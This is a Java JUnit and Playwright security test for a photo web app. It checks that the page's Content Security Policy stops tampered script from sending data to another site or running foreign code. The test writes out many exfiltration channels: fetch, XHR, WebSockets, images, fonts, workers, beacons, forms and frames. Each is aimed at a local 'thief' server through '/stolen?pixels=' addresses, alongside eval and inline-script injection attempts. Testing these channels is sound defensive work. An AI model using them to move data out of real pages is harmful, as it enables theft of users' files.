package app.selfsame.browser;

import static org.junit.Assert.assertEquals;
import static org.junit.Assert.assertTrue;

import app.selfsame.site.Site;
import app.selfsame.site.SiteServer;
import app.selfsame.worker.Chromium;
import com.microsoft.playwright.Browser;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Page;
import com.sun.net.httpserver.HttpServer;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.After;
import org.junit.AfterClass;
import org.junit.Before;
import org.junit.BeforeClass;
import org.junit.Test;

/**
 * What the page could do with the file that it holds if its script had been tampered with. The engine's worker, which
 * alone opens the photo, is attacked in the web client's own tests.
 *
 * <p>No policy that browsers enforce forbids a page's script to lead the whole window elsewhere, with data in the
 * address; nor to send a query or a body to an address of this site that the policy lists, since queries and methods
 * are not compared. The former is visible to the person at once; the latter is refused here and written down nowhere.
 * Both are shown below, so that nobody relies on what is not so. Beyond the tests: WebRTC, and the resolution of host
 * names in advance, are not governed by a policy in every browser.
 */
public class PageAttackTest {
  /** Each is asked for {@code to}, an address, and settles; true when the browser let it through. */
  private static final Map<String, String> WAYS =
      Map.ofEntries(
          Map.entry("fetch", "fetch(to).then(() => true)"),
          Map.entry("fetch-no-cors", "fetch(to, {mode: 'no-cors', keepalive: true}).then(() => true)"),
          Map.entry("fetch-post", "fetch(to, {method: 'POST', mode: 'no-cors', body: 'pixels'}).then(() => true)"),
          Map.entry(
              "xhr",
              """
              new Promise((resolve) => {
                const request = new XMLHttpRequest();
                request.onload = () => resolve(true);
                request.onerror = () => resolve(false);
                request.open('POST', to);
                request.send('pixels');
              })"""),
          Map.entry("web-socket", "opened(new WebSocket(to.replace('http', 'ws')), 'open')"),
          Map.entry("event-source", "opened(new EventSource(to), 'open')"),
          Map.entry("image", "opened(Object.assign(new Image(), {src: to}), 'load')"),
          Map.entry("style", "added('link', {rel: 'stylesheet', href: to})"),
          Map.entry("font", "new FontFace('pixels', `url(${to})`).load().then(() => true)"),
          Map.entry("video", "opened(Object.assign(document.createElement('video'), {src: to}), 'loadeddata')"),
          Map.entry("object", "added('object', {data: to})"),
          Map.entry("import", "import(to).then(() => true)"),
          Map.entry("script-element", "added('script', {src: to})"),
          Map.entry("worker", "opened(new Worker(to), 'message')"),
          Map.entry("shared-worker", "opened(new SharedWorker(to), 'connect')"),
          Map.entry("service-worker", "navigator.serviceWorker.register(to).then(() => true)"));

  /** Each tries to run code that did not come with the site, and settles; true when it ran. */
  private static final Map<String, String> FOREIGN_CODE =
      Map.of(
          "eval", "eval('true')",
          "function", "new Function('return true')()",
          "timer", "new Promise((resolve) => { window.ran = resolve; setTimeout('ran(true)'); setTimeout(() => resolve(false)); })",
          "inline-script", "(added('script', {textContent: 'window.inline = true'}), window.inline === true)",
          "inline-handler", "(document.body.setAttribute('onclick', 'window.clicked = true'), document.body.click(), window.clicked === true)",
          "markup", "(document.createElement('p').innerHTML = '<b>pixels</b>', true)",
          "blob-worker", "opened(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), 'message')",
          "data-worker", "opened(new Worker('data:text/javascript,postMessage(1)'), 'message')",
          "second-policy", "!!trustedTypes.createPolicy('another', {createScript: (text) => text})");

  private static final String SETTLE =
      """
      async (to) => {
        const opened = (target, event) => new Promise((resolve) => {
          target.addEventListener(event, () => resolve(true));
          target.addEventListener('error', () => resolve(false));
        });
        const added = (tag, properties) => {
          const element = Object.assign(document.createElement(tag), properties);
          const done = opened(element, 'load');
          document.body.append(element);
          return done;
        };
        // Code that a debugger calls may evaluate text; what runs in a later task is the page's own.
        await new Promise((resolve) => setTimeout(resolve));
        try {
          return await (%s);
        } catch (refusal) {
          return false;
        }
      }
      """;

  private static final List<String> THEFTS = new CopyOnWriteArrayList<>();

  private static SiteServer server;
  private static HttpServer thief;
  private static Chromium chromium;

  private WireTap wire;
  private StudioVisit visit;

  @BeforeClass
  public static void start() throws IOException {
    server = SiteServer.start(Site.packaged(), 0);
    thief = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    thief.createContext(
        "/",
        exchange -> {
          THEFTS.add(exchange.getRequestMethod() + " " + exchange.getRequestURI());
          exchange.sendResponseHeaders(200, -1);
          exchange.close();
        });
    thief.start();
    chromium = new Chromium();
  }

  @AfterClass
  public static void stop() {
    chromium.close();
    thief.stop(0);
    server.close();
  }

  @Before
  public void visit() throws IOException {
    THEFTS.clear();
    wire = new WireTap(server.port());
    visit = StudioVisit.begin(chromium.browser(), wire.origin());
  }

  @After
  public void leave() {
    visit.close();
    wire.close();
  }

  @Test
  public void nothingReachesAnotherSite() {
    String elsewhere = "http://127.0.0.1:" + thief.getAddress().getPort();
    assertEquals(refusedAll(WAYS), attempt(visit.page(), WAYS, elsewhere + "/stolen?pixels="));
    submitForm(elsewhere + "/stolen");
    openFrame(elsewhere + "/stolen?frame=pixels");
    visit.page().evaluate("(to) => navigator.sendBeacon(to, 'pixels')", elsewhere + "/stolen?beacon");
    fence(elsewhere);
    assertEquals("GET /fence", THEFTS.get(0));
  }

  @Test
  public void thePageReachesNoAddressOfItsSiteButItsFiles() {
    for (String path : List.of("/", "/health", "/api/photos")) {
      List<String> before = wire.requestLines();
      assertEquals(path, refusedAll(WAYS), attempt(visit.page(), WAYS, wire.origin() + path));
      submitForm(wire.origin() + path);
      openFrame(wire.origin() + path);
      visit.page().evaluate("(to) => navigator.sendBeacon(to, 'pixels')", wire.origin() + path);
      assertEquals(path, before, wire.requestLines());
    }
  }

  @Test
  public void whatIsSentToAFileOfTheSiteIsRefusedAndWrittenDownNowhere() {
    String file = (String) visit.page().evaluate("() => JSON.parse(assets.textContent)['documents.txt']");
    PrintStream out = System.out;
    PrintStream err = System.err;
    ByteArrayOutputStream written = new ByteArrayOutputStream();
    PrintStream keeper = new PrintStream(written, true, StandardCharsets.UTF_8);
    System.setOut(keeper);
    System.setErr(keeper);
    try {
      assertEquals(400, status(file + "?pixels=secret", "GET", null));
      assertEquals(405, status(file, "POST", "secret pixels"));
      assertEquals(405, status(file, "PUT", "secret pixels"));
      visit.page().evaluate("(to) => navigator.sendBeacon(to, 'secret pixels')", file);
      assertEquals(200, status(file, "GET", null));
    } finally {
      System.setOut(out);
      System.setErr(err);
    }
    assertEquals("", written.toString(StandardCharsets.UTF_8));
  }

  @Test
  public void noForeignCodeRuns() {
    assertEquals(refusedAll(FOREIGN_CODE), attempt(visit.page(), FOREIGN_CODE, ""));
  }

  /** The one way out that a page keeps; the person sees the page disappear. */
  @Test
  public void onlyLeavingThePageAltogetherCannotBeForbidden() {
    String elsewhere = "http://127.0.0.1:" + thief.getAddress().getPort() + "/left?pixels";
    visit.page().evaluate("(to) => { location.href = to; }", elsewhere);
    visit.page().waitForURL(elsewhere);
    assertTrue(THEFTS.contains("GET /left?pixels"));
  }

  /** Without this the tests above might pass because the attacks are wrong. */
  @Test
  public void theSameAttacksReachAnotherSiteWithoutThePolicy() {
    String elsewhere = "http://127.0.0.1:" + thief.getAddress().getPort();
    try (BrowserContext free = chromium.browser().newContext(new Browser.NewContextOptions().setBypassCSP(true))) {
      Page page = free.newPage();
      page.navigate(wire.origin() + "/");
      attempt(page, WAYS, elsewhere + "/stolen?pixels=");
    }
    for (String way :
        List.of("fetch", "fetch-no-cors", "fetch-post", "xhr", "web-socket", "event-source", "image", "style", "font",
            "video", "object", "import", "script-element")) {
      assertTrue(way + ": " + THEFTS, THEFTS.stream().anyMatch(theft -> theft.endsWith("?pixels=" + way)));
    }
  }

  private static Map<String, Object> attempt(Page page, Map<String, String> ways, String address) {
    Map<String, Object> results = new TreeMap<>();
    ways.forEach(
        (name, way) -> {
          String to = address.endsWith("=") ? address + name : address;
          results.put(name, page.evaluate(SETTLE.formatted(way), to));
        });
    return results;
  }

  private static Map<String, Object> refusedAll(Map<String, String> ways) {
    Map<String, Object> refused = new TreeMap<>();
    ways.keySet().forEach(name -> refused.put(name, false));
    return refused;
  }

  private void submitForm(String to) {
    awaitViolation(
        "form-action",
        """
        Object.assign(document.body.appendChild(document.createElement('form')),
          {action: to, method: 'post', target: 'nowhere'}).submit()""",
        to);
  }

  private void openFrame(String to) {
    awaitViolation(
        "frame-src", "document.body.append(Object.assign(document.createElement('iframe'), {src: to}))", to);
  }

  /** Does what the policy forbids, and waits until the browser says that it did. */
  private void awaitViolation(String directive, String action, String to) {
    visit.page().evaluate(
        """
        (to) => new Promise((resolve) => {
          const hear = ({effectiveDirective}) => {
            if (effectiveDirective === '%s') {
              document.removeEventListener('securitypolicyviolation', hear);
              resolve();
            }
          };
          document.addEventListener('securitypolicyviolation', hear);
          %s;
        })
        """
            .formatted(directive, action),
        to);
  }

  private int status(String address, String method, String body) {
    Map<String, Object> options = new LinkedHashMap<>();
    options.put("method", method);
    options.put("body", body);
    options.put("cache", "no-store");
    return (int)
        visit.page().evaluate(
            "([address, options]) => fetch(address, options).then(({status}) => status)", List.of(address, options));
  }

  /** A request of another window, which arrives after those that this page could have sent before. */
  private void fence(String elsewhere) {
    try (Page other = visit.context().newPage()) {
      other.navigate(elsewhere + "/fence");
    }
  }
}
